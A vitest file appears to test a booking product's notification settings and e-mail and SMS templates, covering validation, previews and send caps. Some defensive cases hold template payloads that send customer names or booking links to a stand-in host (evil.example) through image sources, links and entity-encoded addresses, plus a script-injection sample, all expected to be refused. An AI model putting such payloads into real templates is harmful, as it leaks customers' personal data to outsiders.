import { describe, expect, test } from "vitest";
import { RULE_NAMES, RULES } from "../../../src/features/notifications/rules.ts";
import { must, openCompany } from "../../support/company.ts";
import { refusedFields } from "../commerce.ts";
import { arrived, newAddress } from "../messaging/provider.ts";
import { expectRefused } from "../refusal.ts";
import { onlyRules } from "./notified.ts";

const PATH = "/settings/:company/notifications";
const TEMPLATES = "/settings/:company/notification-templates";
const CONFIRMED = `${TEMPLATES}/booking_confirmed/email/en`;
const OWN = { subject: "On {{booking.date}}", html: "<p>Dear {{customer.name}}</p>" };

type Rule = {
  rule: string;
  channels: Record<string, boolean>;
  audience: string[];
  hours: number | null;
  days: number[] | null;
};

// For what changes more than a text.
const [company, own] = await Promise.all([openCompany(), openCompany()]);

const get = () => company.call<{ rules: Rule[] }>("GET", PATH);
const patch = (body: object) => company.call<{ rules: Rule[] }>("PATCH", PATH, { body });
const ruleIn = (rules: readonly Rule[], name: string) => rules.find(({ rule }) => rule === name);

describe("the settings", () => {
  test("of a new company send by e-mail what an acknowledgement is expected of, and nothing that chases", async () => {
    const { rules } = must(await get(), 200).body.data;
    expect(rules.map(({ rule }) => rule)).toEqual(RULE_NAMES);
    expect(rules.filter(({ channels }) => !channels.email).map(({ rule }) => rule)).toEqual([
      "payment_receipt",
      "invoice_overdue",
      "lead_acknowledged",
      "credit_note_issued",
    ]);
    expect(rules.every(({ channels }) => !channels.sms && !channels.chatapp)).toBe(true);
    for (const { rule, audience } of rules) expect(audience).toEqual(RULES[rule as keyof typeof RULES].to);
    expect(ruleIn(rules, "booking_reminder_day")?.hours).toBe(24);
    expect(ruleIn(rules, "invoice_overdue")?.days).toEqual([3, 7, 14]);
  });

  test("of a company that was here before have every rule off", async () => {
    const made = await company.rows(
      "SELECT name FROM pragma_table_info('notification_rules') WHERE dflt_value = '0'",
    );
    expect(made.map(({ name }) => name)).toEqual(["email", "sms", "chatapp", "is_hourly"]);
  });

  test("keep what is sent of them, and the rest as it is", async () => {
    const change = {
      from_name: "Coast",
      default_language: "hi",
      company_recipients: ["office@asha.example"],
      quiet_hours: { from: "22:00", to: "07:30" },
      daily_cap: 10,
      rules: [{ rule: "invoice_overdue", channels: { email: true }, days: [1, 30, 1] }],
    };
    const before = await own.read<{ rules: Rule[] }>(PATH);
    const changed = await own.change<{ rules: Rule[] }>(PATH, change);
    const { rules, ...rest } = change;
    expect(rules).toHaveLength(1);
    expect(changed).toMatchObject(rest);
    expect(ruleIn(changed.rules, "invoice_overdue")).toMatchObject({
      channels: { email: true, sms: false, chatapp: false },
      days: [1, 30],
    });
    const others = (found: readonly Rule[]) => found.filter(({ rule }) => rule !== "invoice_overdue");
    expect(others(changed.rules)).toEqual(others(before.rules));
  });

  test.each([
    [{ quiet_hours: { from: "21:00", to: "21:00" } }, { "quiet_hours.to": "invalid_value" }],
    [{ company_recipients: ["office"] }, { "company_recipients[0]": "invalid_format" }],
    [{ daily_cap: -1 }, { daily_cap: "too_small" }],
    [{ default_language: "fr" }, { default_language: "invalid_value" }],
    [{ rules: [{ rule: "unknown" }] }, { "rules[0].rule": "invalid_value" }],
    [{ rules: [{ rule: "booking_held", hours: 3 }] }, { "rules[0].hours": "invalid_value" }],
    [{ rules: [{ rule: "booking_reminder_day", hours: 169 }] }, { "rules[0].hours": "too_big" }],
    [{ rules: [{ rule: "order_paid", days: [3] }] }, { "rules[0].days": "invalid_value" }],
    [{ rules: [{ rule: "invoice_overdue", days: [91] }] }, { "rules[0].days[0]": "too_big" }],
    [{ rules: [{ rule: "order_paid", audience: ["instructor"] }] }, { "rules[0].audience": "invalid_value" }],
    [{ rules: [{ rule: "order_paid", audience: [] }] }, { "rules[0].audience": "too_small" }],
  ])("refuse %j, and name the field", async (body, fields) => {
    expectRefused(await patch(body), fields);
  });

  test("that are all off cost a write nothing: no notification is made", async () => {
    await onlyRules(own, {});
    await own.rows("INSERT INTO events (type, resource, record_id) VALUES ('lead.captured', 'lead', '1')");
    await own.rows("UPDATE events SET at = 1, request_id = 'r', shape = 0, is_notified = 1");
    expect(await own.rows("SELECT * FROM notifications")).toEqual([]);
  });
});

describe("a text", () => {
  test("is this product's until the company writes one, and again once that is deleted", async () => {
    const usual = await company.read(CONFIRMED);
    expect(usual).toMatchObject({ is_own: false, subject: expect.stringContaining("{{booking.date}}") });
    expect(must(await company.call("PUT", CONFIRMED, { body: OWN }), 200).body.data).toMatchObject({
      is_own: true,
      ...OWN,
    });
    expect(await company.read(TEMPLATES)).toMatchObject([{ rule: "booking_confirmed", ...OWN }]);
    must(await company.call("DELETE", CONFIRMED), 200);
    expect(await company.read(CONFIRMED)).toEqual(usual);
    expect((await company.call("DELETE", CONFIRMED)).status).toBe(404);
  });

  test("with a variable that its rule has not is 422 template_invalid, and names what is wrong", async () => {
    for (const field of ["subject", "html"]) {
      const answer = await company.call("PUT", CONFIRMED, { body: { ...OWN, [field]: "{{job.title}}" } });
      expect(answer).toMatchObject({ status: 422, body: { code: "template_invalid" } });
      expect(answer.body.message).toMatch(/\{\{job\.title\}\}.*: it has .*customer\.name.*booking\.link/);
      expect(refusedFields(answer)).toEqual({ [field]: "template_invalid" });
    }
  });

  test.each([
    ["the address of a picture", "html", '<img src="https://evil.example/p?n={{customer.name}}">'],
    ["the address of another's link", "html", '<a href="https://evil.example/?u={{booking.link}}">See</a>'],
    ["an address written with entities", "html", "<a href=https&#58;//evil.example/{{booking.link}}>See</a>"],
    [
      "an address after a bracket",
      "html",
      '<a title=">" href="https://evil.example/{{booking.link}}">See</a>',
    ],
    ["a picture that is its whole address", "html", '<img src="{{booking.link}}">'],
    ["a link that is no link", "html", '<a href="{{customer.name}}">See</a>'],
    ["a tag's title", "html", '<p title="{{customer.name}}">Hello</p>'],
    ["an address in the words", "html", "<p>https://evil.example/?u={{booking.link}}</p>"],
    ["an address in bold words", "html", "<p>https&#58;//evil.example/<b>{{booking.link}}</b></p>"],
    ["an address in the subject", "subject", "http://evil.example/{{customer.name}}"],
    ["an address without its scheme", "subject", "evil.example/{{customer.name}}"],
    ["a name that may be an address", "subject", "{{company.name}}{{booking.link}}"],
  ])("whose variable stands in %s would give it to a stranger: 422", async (_where, field, text) => {
    const answer = await company.call("PUT", CONFIRMED, { body: { ...OWN, [field]: text } });
    expect(refusedFields(answer)).toEqual({ [field]: "template_invalid" });
    expect(answer.body.message).toMatch(/^\w+ has \{\{[a-z]+\.[a-z]+\}\} /);
  });

  test("of an SMS joins no variable to an address either", async () => {
    const path = `${TEMPLATES}/booking_confirmed/sms/en`;
    const put = (text: string) => company.call("PUT", path, { body: { text } });
    expect(refusedFields(await put("See https://evil.example/{{booking.link}}"))).toEqual({
      text: "template_invalid",
    });
    must(await put("See https://asha.example/faq {{booking.link}}"), 200);
    must(await company.call("DELETE", path), 200);
  });

  test("may be linked to the customer's own page, and to the company's", async () => {
    const html =
      '<p>Dear {{customer.name}}, <a href="{{booking.link}}">see</a> or <a class="x" href=\'{{ booking.calendar }}\'>keep</a>.<br>Place: {{booking.place}}<br/></p><a href="https://asha.example/">Asha</a> ({{booking.link}})';
    must(await company.call("PUT", CONFIRMED, { body: { ...OWN, html } }), 200);
    const seen = must(await company.call("POST", `${CONFIRMED}/preview`, { body: {} }), 200).body.data;
    expect(seen.html).toMatch(
      /<a href="https:[^"{}]+">see<\/a> or <a class="x" href="\s?https:[^"{}]+">keep/,
    );
  });

  test("whose script or script address is dropped when it is sent stays without it", async () => {
    const html = "<script>alert(1)</script><p>Hello <a href='javascript:alert(1)'>x</a></p>";
    must(await company.call("PUT", CONFIRMED, { body: { ...OWN, html } }), 200);
    const seen = must(await company.call("POST", `${CONFIRMED}/preview`, { body: {} }), 200).body.data;
    expect(seen.html).toBe("<p>Hello <a>x</a></p>");
  });

  test.each([
    ["email", { subject: "Hello" }, { html: "required" }],
    ["email", { ...OWN, text: "Hello" }, { text: "invalid_value" }],
    ["sms", { subject: "Hello" }, { text: "required" }],
    ["chatapp", { template_name: "order_ready" }, { template_language: "required" }],
  ])("of %s has the members of its channel: %j", async (channel, body, fields) => {
    expectRefused(
      await company.call("PUT", `${TEMPLATES}/booking_confirmed/${channel}/en`, { body }),
      fields,
    );
  });

  test("of a rule, channel or language that is none is 404", async () => {
    for (const place of ["nothing/email/en", "booking_held/fax/en", "booking_held/email/fr"])
      expect((await company.call("GET", `${TEMPLATES}/${place}`)).status).toBe(404);
  });

  test("is previewed of an example, and of a record; nothing is sent", async () => {
    await company.call("PUT", CONFIRMED, { body: OWN });
    const seen = must(await company.call("POST", `${CONFIRMED}/preview`, { body: {} }), 200).body.data;
    expect(seen).toEqual({
      subject: "On Tuesday, 1 December 2026",
      html: "<p>Dear Mia Chen</p>",
      text: "Dear Mia Chen",
    });
    const hindi = await company.call("POST", `${TEMPLATES}/invoice_overdue/email/hi/preview`, { body: {} });
    expect(must(hindi, 200).body.data).toMatchObject({ text: expect.stringContaining("₹75.00") });
    expect(hindi.text).toContain("मंगलवार, 1 दिसंबर 2026");
    const unknown = await company.call("POST", `${CONFIRMED}/preview`, { body: { record_id: "bkg_1" } });
    expect(refusedFields(unknown)).toEqual({ record_id: "not_found" });
    expect(await company.rows("SELECT id FROM messages")).toEqual([]);
  });

  test("is sent as a test, as a notification, and counts in the cap", async () => {
    const to = newAddress();
    const sent = must(
      await company.call<{ message_id: string }>("POST", `${CONFIRMED}/test`, { body: { to } }),
      202,
    );
    expect((await arrived(to)).subject).toContain("Tuesday, 1 December 2026");
    const path = `/messaging/:company/messages/${sent.body.data.message_id}`;
    expect((await company.call("GET", path)).body.data).toMatchObject({ source: "notification" });
    await patch({ daily_cap: 1 });
    const second = await company.call("POST", `${CONFIRMED}/test`, { body: { to: newAddress() } });
    expect(second).toMatchObject({ status: 429, body: { code: "messaging_daily_cap" } });
  });

  test("is not sent in India without its registered template, nor to a number as an e-mail", async () => {
    const indian = own;
    const body = { channel: "sms", kind: "http", config: { url: "https://sms.example.com/send" } };
    await indian.make("/settings/:company/messaging-providers", body);
    const sms = `${TEMPLATES}/booking_confirmed/sms/en/test`;
    expect((await indian.call("POST", sms, { body: { to: "919845012345" } })).status).toBe(409);
    const mail = await indian.call("POST", `${CONFIRMED}/test`, { body: { to: "919845012345" } });
    expect(refusedFields(mail)).toEqual({ to: "invalid_format" });
  });
});
